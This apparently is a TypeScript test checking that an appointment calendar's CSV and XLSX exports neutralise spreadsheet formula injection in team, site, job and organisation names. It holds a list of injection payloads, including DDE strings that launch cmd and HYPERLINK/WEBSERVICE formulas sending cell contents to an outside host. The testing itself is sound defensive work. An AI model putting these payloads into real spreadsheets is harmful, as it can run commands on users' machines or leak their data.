import { read, utils } from '@e965/xlsx'
import { csvOf, workbookOf } from '#features/calendar/export-rows.ts'
import type { ExportedAppointment } from '#features/calendar/queries.server.ts'
import type { Proof } from './promise.ts'

/**
 * Promise 12: what leaves as a spreadsheet (the export of appointments, .csv and .xlsx) holds words alone, whatever a team, a site, a function or an organisation is called.
 * Read again by a spreadsheet library, and sign by sign; the same file without its apostrophes must be seen.
 */
const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const ends = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://exemple.fr/?x="&A1;"Voir")',
  'WEBSERVICE("http://exemple.fr/"&A2)',
  "SUM(A1:A9)*cmd|'/c calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  '"=1+1',
  ';=1+1',
  '";=1+1',
  '\r\n=1+1',
  '\n@SUM(1)',
]
const places = ['siteName', 'teams', 'jobTitles', 'organisation'] as const
const now = new Date('2026-06-16T09:00:00Z')

const hostile = (): ExportedAppointment[] =>
  starts.flatMap((start) =>
    ends.flatMap((end) =>
      places.map((place): ExportedAppointment => ({
        createdAt: now,
        startsAt: now,
        kind: 'interview',
        status: 'held',
        cancelledBy: null,
        siteName: 'MDS',
        timeZone: 'Europe/Paris',
        teams: 'Équipe',
        jobTitles: 'assistante sociale',
        organisation: 'Département',
        [place]: start + end,
      })),
    ),
  )

/** The cells of a CSV as its rules say, without a library: between quotes, doubled inside. */
const cellsOf = (csv: string): string[] => [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, inside = '']) => inside.replaceAll('""', '"'))
const begins = (text: string): boolean => starts.some((start) => text.startsWith(start))

const inWorkbook = (file: Uint8Array | string): { cells: number; formulas: number } => {
  const book = read(file, { type: typeof file === 'string' ? 'string' : 'array', cellFormula: true })
  const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {}
  const cells = Object.entries(sheet).filter(([name]) => !name.startsWith('!')) as [string, { f?: string; t?: string }][]
  return { cells: cells.length, formulas: cells.filter(([, one]) => one.f !== undefined || one.t === 'e').length }
}

const proof: Proof = async () => {
  const rows = hostile()
  const csv = csvOf(rows, now)
  const [sheet, text] = [inWorkbook(workbookOf(rows, now)), inWorkbook(csv)]
  const cells = cellsOf(csv)
  const bare = cells.filter(begins).length
  const planted = inWorkbook(utils.sheet_to_csv(utils.aoa_to_sheet(rows.map((one) => [one.siteName]))))
  return {
    figures: [
      {
        found: `${rows.length} appointments with ${starts.length * ends.length} payloads in ${places.length} columns: ${sheet.formulas} formulas in ${sheet.cells} cells of the workbook, ${text.formulas} in ${text.cells} of the CSV, ${bare} of ${cells.length} cells that begin like one`,
        target: '0',
        held:
          sheet.formulas + text.formulas + bare === 0 &&
          sheet.cells > rows.length &&
          text.cells > rows.length &&
          cells.length > rows.length,
        counted: sheet.cells + text.cells + cells.length,
      },
      {
        found: `the same payloads written without care: ${planted.formulas} formulas seen`,
        target: 'seen',
        held: planted.formulas > 0,
        counted: planted.cells,
      },
    ],
  }
}
export default proof
